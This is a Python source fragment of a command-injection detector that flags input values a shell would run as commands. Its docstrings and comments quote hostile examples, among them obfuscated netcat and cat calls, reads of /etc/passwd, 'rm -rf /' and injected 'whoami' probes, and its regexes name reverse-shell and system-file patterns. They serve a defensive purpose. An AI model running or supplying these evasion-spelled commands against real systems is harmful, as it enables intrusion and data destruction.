    """The value opens with a command given by its path, spelled so that the tool's name never appears: wildcards
    the shell expands to a binary (``/???/n? 10.0.0.7 4444``, ``/usr/bin/w?o?mi``), or the path split by quotes the
    shell joins (``/b'i'n/c''a't /etc/hosts``); unset variables glued to the glob are already gone (``normalize``).
    The glob must be able to name a known tool in a system ``bin`` folder and keep a letter of its name, then come
    shell arguments or the end. A URL path with a query (``/search?q=x``), a route pattern (``/api/*/items``) or a
    sentence's question mark (``/usr/bin/python?``) is none of these."""
    head = _PATH_HEAD.match(text)
    if head is None:
        return False
    word = head.group(1)
    if "'" in word or '"' in word:
        if _QUOTE_IN_PATH.search(word) is None:
            return False  # a quoted path ("/bin/sh"), not one split by quotes
        text = text[:300].translate(_QUOTES)
        head = _PATH_HEAD.match(text)
        if head is None:
            return False
        word = head.group(1)
    elif "?" not in word.rstrip("?") and "*" not in word and "[" not in word:
        return False  # no wildcard, or only a question mark closing a sentence
    directory, _, name = word.rpartition("/")
    if not any(c.isalnum() for c in name):
        return False  # /???/??, /*/*: a glob that keeps nothing of a name
    dir_rx, name_rx = _glob_regex(directory + "/"), _glob_regex(name)
    if not any(dir_rx.fullmatch(d) for d in _BIN_DIRS):
        return False
    tools = [t for t in _PATH_TOOLS if name_rx.fullmatch(t)]
    if not tools:
        return False
    rest = text[head.end() :]
    if not rest.strip():  # a directory with no letter left (/???/?s) is spelled to hide it: any tool counts
        return not any(c.isalnum() for c in directory) or any(t in STRONG or t in RECON or t in SHELLS for t in tools)
    return _SHELLISH_ARG.match(rest) is not None or _AFTER_CMD_END.match(rest) is not None


_PATH_TOOLS = frozenset(STRONG | WEAK | TOOL_NAMES)
_GRAMMAR_TOOLS = frozenset(STRONG | WEAK | CLI_TOOLS | TOOL_NAMES)
_COMMANDS = STRONG | WEAK
_SPLIT_TOOLS = _GRAMMAR_TOOLS | {"ip", "time", "nice", "setsid", "strace"}
"""What a word spelled with a shell's quotes may join to (``'c'url``, ``ti''me``): ``cmd_lone``."""
_PROBE_TOOLS = _PATH_TOOLS | {"true", "false"}


_NET_MARKERS = ("ocket", "OCKET", "sockopen", "SOCKOPEN", "/inet/", "cpclient", "CPClient", "cpClient", "CPCLIENT",
                "tcp()", "et.connect", "et.Socket")
"""Substrings one of which every connection ``reverse_shell`` knows contains: "stock" or "block" in an order is not
worth its regex pass."""


def _breakout_shapes(value: str) -> tuple[int, int] | None:
    """``cmd_breakouts``' shapes, each behind the characters it cannot do without."""
    if cmd_line_worth(value) and (line := cmd_line_breakout(value)):
        return line
    if "(" in value and (php := php_shell_breakout(value)):
        return php
    if (value.lstrip()[:1] == "/" or "`" in value) and (run := switches_or_backtick(value, _PROBE_TOOLS)):
        return run
    if ("cmd" in value or "CMD" in value or "Cmd" in value) and (run := delimited_cmd_run(value, _PROBE_TOOLS)):
        return run  # fresh80: cmd.exe,/c,whoami
    return None


def is_cmdi(value: str) -> tuple[int, int] | None:
    """The span to report when ``value`` would run a command if passed to a shell."""
    if "\\" in value and _EOL_AROUND.search(value):  # read "\\n" as the line break it stands for, everywhere
        value = _TERMINAL_ESCAPE.sub("", _ESCAPED_EOL.sub("\n", value))
    if "IFS" in value and (ifs := _IFS_GLUED.search(value)):
        return ifs.start(1), min(len(value), ifs.end() + 32)
    if "<<<" in value and (here := _SHELL_HERE_STRING.search(value)):
        return here.start(), min(len(value), here.end() + 32)
    if breakout := _breakout_shapes(value):
        return breakout
    if spelled := _spelled_by_shell(value):
        return spelled
    if scripted := scripted_probe(value, _PROBE_TOOLS):
        return scripted
    if grammar := cmd_grammar(value, _PROBE_TOOLS):
        return grammar
    if any(hint in value for hint in CODE_HINTS) and (code := code_probe(value)):
        return code
    if "(" in value and (statement := node_statement(value)):
        return statement
    if any(marker in value for marker in _NET_MARKERS) and (revshell := reverse_shell(value)):
        return revshell
    if ("child_process" in value or "process" in value) and (node := _NODE_SHELL.search(value)):
        return node.start(), node.end()
    if ("untime" in value or "rocessBuilder" in value or "reemarker" in value) and (java := _JAVA_EXEC.search(value)):
        return java.start(), java.end()
    if language := language_exec(value, _COMMANDS, _opens_command, PROSE_WORDS):
        return language
    if code := eval_sink(value):
        return code
    if value.count("(") > 1 and (decoded := _EVAL_DECODED.search(value)):
        return decoded.start(), decoded.end()
    if ";" in value and len(value) < 320 and value.rstrip()[-1:] in "/#*" and _PHP_EVAL_BREAKOUT.fullmatch(value):
        return 0, len(value)
    if "()" in value and ";" in value and (php_probe := _PHP_PROBE_STATEMENT.search(value)):
        return php_probe.start(), php_probe.end()
    if "<!--#" in value and (ssi := _SSI_BARE_DIRECTIVE.search(value)):
        return ssi.start(), ssi.end()
    if len(value) < 160 and ("echo" in value or "printf" in value) and _ECHO_MARKER.fullmatch(value):
        return 0, len(value)
    if "_method=" in value and (override := _MAGIC_METHOD_OVERRIDE.search(value)):
        return override.start(), override.end()
    if "echo" in value and ("rev" in value or "base64" in value) and (hidden := _HIDDEN_ECHO.search(value)):
        return hidden.start(), hidden.end()
    if ">/" in value and _REDIRECT_ONLY.fullmatch(value) and value.count("/") > 1:
        return 0, len(value)
    if '"&"' in value.replace(" ", ""):
        value = _VB_CONCAT.sub("", value)
    if ("!!" in value or "/a" in value or "/A" in value or "(" in value or ":" in value) and (
            other := _OTHER_RUNTIMES.search(value)):
        return other.start(), other.end()
    if ("net" in value or "reg" in value) and (admin := _WINDOWS_ADMIN.search(value)):
        return admin.start(), admin.end()
    if "-exec" in value and (found := _FIND_EXEC_SECRET.search(value)):
        return found.start(), found.end()
    if "``" in value and _BACKTICK_RUN.fullmatch(value):
        if any(_command_at(part + " ", 0, ";") for part in value.strip().strip("`").split("``")):
            return 0, len(value)
    if "ommand" in value and (ssh_option := _SSH_OPTION.search(value)):
        return ssh_option.start(), ssh_option.end()
    if "$" in value and "|" in value and (shell_itself := _PIPE_TO_SHELL_ITSELF.search(value)):
        return shell_itself.start(), shell_itself.end()
    if (_SPLIT_HINT.search(value) or "<()" in value or ">()" in value) and _split_command(value):
        return 0, min(len(value), 48)
    if "{" in value and "," in value and _brace_command(value):
        return 0, len(value)  # {cat,/etc/passwd}, c{a,oun}t: only a shell reads a brace list as a command line
    if "$" in value and "=" in value and (assembled := _assembled_command(value)):
        return assembled
    if ("d /" in value or "D /" in value) and (root := _CD_ROOT_THEN.search(value)):
        return root.start(), root.end()
    text = normalize(value)
    if text.lstrip()[:1] == "/" and ("?" in text or "*" in text or "'" in text or '"' in text) and _path_command(text):
        return 0, min(len(text), 48)
    if value.lstrip()[:1] in "(!" and "(" in value and ("while" in value or "for" in value) and (
            _IIFE_HANG.fullmatch(value)):
        return 0, len(value)
    if value.lstrip()[:1] == "/" and ("'" in value or '"' in value) and _path_command(value):
        return 0, min(len(value), 48)  # /b'i'n/c''a't: normalize joined the quotes, the path is what the shell reads
    if (">" in text or "<" in text) and (redirected := _fd_redirection(text)):
        return redirected
    shock = _SHELLSHOCK.search(text)
    if shock:
        return shock.start(), shock.end()
    if probe := confirmation_probe(text, _PROBE_TOOLS):
        return probe
    nested = _nested_command(text)
    if nested:
        return nested
    if _wrapped(text, 0) or _strong_then_separator(text) or _quote_then_tool(text):
        return 0, min(len(text), 48)
    if lone := lone_command(value, text, _SPLIT_TOOLS, STRONG):
        return lone
    if bare_command(text) or (text.rstrip()[-1:] in (";", "|", "&") and bare_command(text.rstrip(" \t;|&"))):
        return 0, min(len(text), 48)  # the whole value is a command line: "uname -a", "cscli alerts list";
        # one that hands over to what follows it or goes to the background is one too: "uname -a;", "sleep 9 &"
    if (";" in text or "|" in text or "&" in text) and _probe_then_command(text):
        return 0, min(len(text), 48)
    lead = len(text) - len(text.lstrip()) if text[:1].isspace() else 0  # a line break there opens the value
    pipe_run = (-1, -1, False)
    block_memo: dict[int, bool] = {}
    has_assignment = "=" in text
    has_entity = "&" in text  # once: asked for every ";" it would make a run of them quadratic
    graphql = [-2]  # where the value's GraphQL operation header ends: looked up once, when a line asks
    for m in _SEP.finditer(text):
        sep = m.group(1)
        if sep == "`":
            if _fence(text, m.start()):
                continue
            close = _closing_backtick(text, m.end())
            if close < 0:
                continue
            inner = text[m.end() : close]
            before = text[m.start() - 1] if m.start() else ""
            whole = m.start() == 0 and close == len(text.rstrip()) - 1
            glued = before != "" and not before.isspace() and before not in "([*_"
            glued = glued or text.startswith("$(", m.start() - 2)  # $(`id`): a substitution inside a substitution
            glued = glued or (before == "\n" and _INPUT_LINE.fullmatch(text, 0, m.start() - 1) is not None)
            if glued and _ENCODED_BREAK.fullmatch(text, max(0, m.start() - 3), m.start()):
                if _command_at(inner + " ", 0, ";", strong_only=True) or _opening_line_runs(inner, 0):
                    return m.start(), close + 1
                continue
            if (whole or glued or _SUBST_META.search(inner)) and _command_at(
                inner + " ", 0, ";", strong_only=not (whole or glued)
            ):
                return m.start(), close + 1
            continue
        if sep == "&" and _entity_at(text, m.start()):
            continue
        if sep == ";" and has_entity and _entity_end_at(text, m.start()):
            continue
        if sep == ">(" and _tag_parenthesis(text, m.start()):
            continue  # fresh80: <a>(more)</a>, the markup of a link in parentheses
        if sep == "&" and m.start() > 0 and text[m.start() - 1] in " \t" and m.end() - m.start() > 1 and (
                _ADDRESS_OPERAND.fullmatch(text, 0, m.start()) is None):
            # "A & B": prose ampersand; a command still needs a shell-looking argument. An address opening the value
            # is no word of a sentence: "127.0.0.1 & whoami" is a ping field's host and a background command (fresh83)
            word = _WORD.match(text, m.end())
            if not word or not _SHELLISH_ARG.match(text, word.end()):
                continue
        at = m.end()
        while at < len(text) and text[at] in "( \t+":
            at += 1  # a subshell: &&(sh)0>…; a "+" that a form encoder made of a space: &&+|+dir c:\\
        if has_assignment and (assigned := _ASSIGNMENTS.match(text, at)):
            at = assigned.end()  # && A=1 B='x y' uname -a: the command after the assignments runs
        if sep in _SUBSTITUTIONS and (sep != "$(" or text[m.start() - 1 : m.start()].isalnum()) and (
                _substituted_command(text, at)) and not (
                _is_snippet(_line_before(text, m.start())) or _wrapped_sentence(text, m.start(), at)):
            return m.start(), min(len(text), at + 32)
        if sep != "&" and _wrapped(text, at):
            return m.start(), min(len(text), at + 32)
        if sep == "|" and not pipe_run[0] <= m.start() < pipe_run[1]:
            pipe_run = _pipe_list_run(text, m.start())
        if (sep == "|" and pipe_run[2]) or (sep in "\n\r" and m.start() < lead):
            # a list "ids|title|type", or a value that opens with a line break: what follows is data unless it is an
            # unambiguous tool or a probe that closes its line
            if _command_at(text, at, sep, strong_only=True) or (sep != "|" and _opening_line_runs(text, at)):
                return m.start(), min(len(text), at + 32)
            continue
        if sep in "\n\r" and text[at : at + 1].isalpha() and _listing_line(text, at, graphql):
            continue
        block = "\n" in m.group() and _in_indented_block(text, m.end(), block_memo)
        if _command_at(text, at, sep) and (
            not (block or _is_snippet(_line_before(text, m.start())) or _wrapped_sentence(text, m.start(), at))
            or _command_at(text, at, sep, strong_only=True)
        ):
            return m.start(), min(len(text), at + 32)
        if text[at : at + 2].lower() in _BARE_HEADS and _bare_after(text, at) and not (
                block or _is_snippet(_line_before(text, m.start()))):
            return m.start(), min(len(text), at + 32)
    return None


_TOOL = r"(?:(?:/usr)?/s?bin/)?([A-Za-z][\w.-]{0,31}+)"
_FD_REDIRECTION = re.compile(
    r"[ \t]*+" + _TOOL + r"((?:[ \t]++[^\s;|&<>]{1,200}+){0,8}?)[ \t]*+"
    r"(?:(?:\d{1,2}|\{[a-z_]\w{0,31}\})?(?:[<>]&|&>|>\||<<-)|(?:\d{1,2}|\{[a-z_]\w{0,31}\})(?:<>|>>?|<<?))",
    re.I)
"""A known tool opening the value, then a redirection only a shell writes: a file descriptor duplicated or closed
(``2>&1``, ``<&-``), both streams (``&>``), a clobber (``>|``), a tab-stripping heredoc (``<<-``) or a
numbered or named descriptor (``2> f``, ``3<> f``, ``{fd}> f``). ``ls > file`` and ``id <> 5`` read as prose or SQL,
and a here-string (``base64 -d <<< "$KEY"``) is how documentation feeds a variable. Only a value that opens with the
command counts: quoted in prose or under a markdown fence it runs nowhere (the words before it are a command that
fails), and the separator rules judge it there."""


def _fd_redirection(text: str) -> tuple[int, int] | None:
    """``_FD_REDIRECTION`` with no function word among the arguments: the value is a command line only a shell reads,
    with no separator before it."""
    if (m := _FD_REDIRECTION.match(text)) and m.group(1).lower() in _GRAMMAR_TOOLS and not any(
            t.lower() in PROSE_WORDS for t in m.group(2).split()):
        return 0, m.end()
    return None


_TAG_PARENTHESIS = re.compile(r"<([a-z][\w-]{0,20}+)(?:\s[^<>]{0,200}+)?>\([^()<>\n]{0,80}+\)\s*+</\1\s*+>", re.I)


def _tag_parenthesis(text: str, at: int) -> bool:
    """The ``>(`` at ``at`` ends an HTML start tag whose element holds only a parenthesised text (``<a>(more)</a>``,
    a forum's "(more)" link): the ``>`` closes the tag, no process substitution opens there."""
    start = text.rfind("<", max(0, at - 220), at)
    m = _TAG_PARENTHESIS.match(text, start) if start >= 0 else None
    return m is not None and text.find(">", start) == at


def _substituted_command(text: str, at: int) -> bool:
    """A known command with arguments closed by the substitution's ``)``: ``e$(echo ch)o``, ``<(cat x)``. Its plain
    arguments count for a process substitution and for a command substitution glued inside a word, where after ``;``
    they would not ("… ; echo me later"): only a shell splices a command's output into a word or a file name there.
    ``GREETING="$(echo hello)"`` is how documentation sets a variable, judged by the separator rules."""
    word = _WORD.match(text, at)
    if word is None or word.group(1).lower() not in _COMMANDS:
        return False
    line = _SUBSTITUTED_LINE.match(text, word.end())
    return line is not None and not any(t.lower() in PROSE_WORDS for t in line.group().rstrip(")").split())


def _listing_line(text: str, at: int, graphql: list[int]) -> bool:
    """The line at ``at`` is a GraphQL field or a name-and-version list entry (``listings``), not a command line."""
    if text[at].isupper():
        return version_list_line(text, at)
    if graphql[0] == -2:
        graphql[0] = graphql_operation(text)
    return graphql_field_line(text, at, graphql[0])


_SENTENCE_WORDS = frozenset("the a an and or so is are was this that it to of in on for with not we you i".split())


def _wrapped_sentence(text: str, pos: int, at: int) -> bool:
    """The line break at ``pos`` wraps a sentence onto a line that opens with a capitalised word and reads as prose
    ("…present on<line break>Python 3 and so this is safe"): no shell finds a command named ``Python``. As in an
    indented block, only unambiguous tools count there. Shell shown in a markdown fence or after a ``$`` prompt
    gets no such pass: a shell runs ``$ a;id`` (``$`` fails, ``id`` runs) and ```` ``` ```` opens a backtick
    substitution, so both prefixes are free for an attacker to add."""
    if text[pos] not in "\n\r" or not text[at : at + 1].isupper() or not text[at + 1 : at + 2].islower():
        return False
    words = text[at : at + 120].split("\n", 1)[0].lower().split()
    return sum(w in _SENTENCE_WORDS for w in words[1:]) >= 2


_PIPE_LIST = re.compile(r"[a-z_][\w.-]*(?:\|[a-z_][\w.-]*){2,}", re.I)
_LIST_BEFORE = frozenset("=,([{\"':?& \t")
_LIST_AFTER = frozenset("&,)]}\"'# \t")


def _pipe_list_run(text: str, pos: int) -> tuple[int, int, bool]:
    """The run of list characters around the ``|`` at ``pos`` (start, end) and whether it is a list of three or
    more identifier words with no space (``prop=ids|title|type``, Solr and Jira field lists, a regex alternation
    ``jpg|png|gif``): an API's multi-value idiom, not a pipeline. A pipeline into a shell, from an address
    (``127.0.0.1|id``) or into a command with arguments is not a list. Every ``|`` of the run shares the answer,
    so the caller asks once per run (``a|b`` × 64K was quadratic: 378 s for 128 KiB)."""
    start = pos
    while start > 0 and (text[start - 1].isalnum() or text[start - 1] in "_.-|"):
        start -= 1
    end = pos + 1
    while end < len(text) and (text[end].isalnum() or text[end] in "_.-|"):
        end += 1
    if (start and text[start - 1] not in _LIST_BEFORE) or (end < len(text) and text[end] not in _LIST_AFTER):
        return start, end, False
    if end < len(text) and text[end] in " \t" and _SHELLISH_ARG.match(text, end):
        return start, end, False  # "a|b|cat /etc/passwd": arguments after the last member
    run = text[start:end]
    return start, end, _PIPE_LIST.fullmatch(run) is not None and not any(w.lower() in SHELLS for w in run.split("|"))


_LINE_REST = re.compile(r"[^;|&\n\r`]*")
_LINE_LOOK = 1024
"""How much of a line after a separator ``_bare_after`` reads: a command line is judged by its first kilobyte."""
_CLOSED = re.compile(r"\s*(?:[;|&]|[\n\r]\s*$)")
_SYSTEM_FILE = re.compile(
    r"[\s<]['\"]?(?:/(?:etc|proc|root|sys|boot|dev)(?:/|\s|$)|[a-z]:(?:[\\/](?:windows|winnt)|[\\/]?\s*$)"
    r"|%(?:systemroot|windir)%|/\*?['\"]?\s*$)|(?:\\x[0-9a-f]{2}){3}|--no-preserve-root", re.I)
"""An argument naming a system file or folder, the filesystem root itself as the line's last argument (``rm -rf /``,
``chmod -R 777 /*``; "type / category" goes on), or text spelled in ``\\xHH`` codes; or ``--no-preserve-root``,
which only a wipe of the root asks for."""
_LINE_COMMENT = re.compile(r"[ \t]#")
"""Where a shell comment starts on a line: ``#`` at the start of a word."""
_WEB_TARGET = re.compile(
    r"\s['\"]?(?:/(?:var|srv)/www|/usr/share/nginx/html|[a-z]:\\inetpub\\wwwroot)/?['\"]?(?:\s|$)"
    r"|\s['\"]?/(?:var/log|proc|etc)/\S*\s+['\"]?[\w./-]*\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)['\"]?\s*$", re.I)
"""The web root itself as the argument (``ls -laR /var/www``: a listing of everything the server publishes, where a
runbook names an app's own folder), or a log or system file copied to a server-side script (``cp
/var/log/…/error.log x.php``: log poisoning turned into code)."""
_ALONE_PROBES = frozenset({"id", "pwd", "ls", "ps", "env", "hostname", "uptime", "who", "dir", "printenv"})


def _opening_line_runs(text: str, at: int) -> bool:
    """A value that opens with a line break, then a common tool: a probe when the line is closed by a separator or a
    final line break (``\\nid;``, ``\\nuname -a\\n``), names the tool by its path (``\\n/usr/bin/id``), is a probe
    form (``\\nsleep 5``), reads a system file or is a bare identity probe (``\\nid``). A documentation line after
    a line break (``\\nls -la /var/log/nginx/``, ``\\nping -c 4 example.com``, ``\\nsort``) is data."""
    line = _LINE_REST.match(text, at)
    end = line.end() if line else at
    segment = text[at:end].replace("+", " ")  # a form's "+" for a space: %0a+dir+c:%2f
    commented_out = False
    if "#" in segment and (comment := _LINE_COMMENT.search(segment)):
        # "\nsleep 10 #": a bare "#" comments out whatever the application appends to the line, as ";" would end
        # it; a comment with words in it ("\nls -la  # list it") is a note, and the command before it is judged
        commented_out = not segment[comment.end() :].strip()
        segment = segment[: comment.start()]
    if segment[:1] == "/" and (_GLOB_COMMAND.match(segment) or (
            (word := _WORD.match(segment)) and word.group(1).lower() in TOOLS)):
        return True
    if not _command_at(segment, 0, "\n"):
        return _bare_after(segment, 0)
    if commented_out or _CLOSED.match(text, end) or bare_command(segment) or _SYSTEM_FILE.search(segment) or (
            _WEB_TARGET.search(segment)):
        return True
    return segment.strip().lower() in _ALONE_PROBES


_BARE_HEADS = frozenset({n[:2] for n in TOOL_NAMES} | {p[:2] for p in RECON_PREFIXES} | {"/u", "/b", "/s", "./"})


def _bare_after(text: str, at: int) -> bool:
    """After a separator, a command line ``commands.bare_command`` knows (a recon tool with arguments such as ``ansible
    all -m ping`` or ``regedit HKLM\\…``, a probe form such as ``perf --version``), or a hyphenated tool of a recon
    family alone (``ansible-console``)."""
    if text[at : at + 2].lower() not in _BARE_HEADS:
        return False  # the cheap look first: no tool name starts with these two characters
    word = _WORD.match(text, at)
    if word is None:
        return False
    name = word.group(1).lower()
    if name not in TOOL_NAMES and not name.startswith(RECON_PREFIXES):
        return False
    line = _LINE_REST.match(text, at, at + _LINE_LOOK)  # bounded: read to the end, "sleep+^" × 18K took 4 s
    segment = text[at : line.end()] if line else ""
    if not segment.strip(" \t") == word.group():
        return bare_command(segment)
    return name.startswith(RECON_PREFIXES) and word.group().islower()
